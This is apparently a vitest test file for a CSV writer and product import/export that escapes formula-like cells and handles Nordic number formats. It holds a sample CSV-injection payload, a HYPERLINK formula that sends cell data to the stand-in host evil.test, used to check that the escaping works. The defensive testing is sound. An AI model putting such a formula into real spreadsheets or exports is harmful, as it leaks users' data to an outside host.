import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  BOM,
  csvAmount,
  csvDialectFor,
  escapeFormula,
  NORDIC_CSV,
  PLAIN_CSV,
  unescapeFormula,
  writeCsv,
} from './csv.ts';
import { type CsvProduct, parseProductsCsv, productsToCsv } from './productCsv.ts';

const EVIL = '=HYPERLINK("http://evil.test/?d="&A1,"Click")';

describe('the shared CSV writer (issue 44 item 5)', () => {
  it('escapes every formula-like cell so a spreadsheet opens it as text', () => {
    for (const cell of [EVIL, '+SUM(A1)', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])
      expect(escapeFormula(cell)).toBe(`'${cell}`);
    const text = writeCsv(['title'], [[EVIL]]);
    const [, row] = Papa.parse<string[]>(text.slice(1)).data;
    expect(row?.[0]).toBe(`'${EVIL}`);
  });

  it('leaves plain text and signed numbers as they are (a refund stays a number)', () => {
    for (const cell of ['Räksmörgås', '-12.50', '-12,50', '+46701234567', '42', ''])
      expect(escapeFormula(cell)).toBe(cell);
    expect(unescapeFormula(`'${EVIL}`)).toBe(EVIL);
    expect(unescapeFormula("'tis the season")).toBe("'tis the season");
  });

  it('writes the Nordic Excel dialect for comma-decimal languages, and a byte-order mark', () => {
    for (const language of ['sv', 'no', 'da', 'es', 'tr', 'sv-SE'])
      expect(csvDialectFor(language)).toBe(NORDIC_CSV);
    for (const language of ['en', 'ar']) expect(csvDialectFor(language)).toBe(PLAIN_CSV);
    const text = writeCsv(['a', 'b'], [['Å; Ø', csvAmount(-1950, NORDIC_CSV)]], { dialect: NORDIC_CSV });
    expect(text).toBe(`${BOM}a;b\r\n"Å; Ø";-19,50`);
    expect(csvAmount(-50)).toBe('-0.50');
    expect(csvAmount(14500, NORDIC_CSV)).toBe('145,00');
  });

  it('exports a product titled like a formula escaped, and imports it back as typed', () => {
    const product: CsvProduct = {
      id: '0b8c6d2e-1f0a-4a63-9a55-0f4e1c2b3a4d',
      title: EVIL,
      titleLang: {},
      categories: [],
      price: 4950,
      vatRate: 12,
      takeAwayVatRate: null,
      norwegianCategory: null,
      manualPrice: false,
      volumeSuffix: null,
      course: null,
      allergens: [],
      imageUrl: null,
    };
    for (const dialect of [PLAIN_CSV, NORDIC_CSV]) {
      const text = productsToCsv([product], { dialect });
      expect(text).toContain(`'=HYPERLINK`);
      const { rows, problems } = parseProductsCsv(text, 'SE');
      expect(problems).toEqual([]);
      expect(rows[0]?.values.title).toBe(EVIL);
      expect(rows[0]?.values.price).toBe(4950);
    }
  });
});
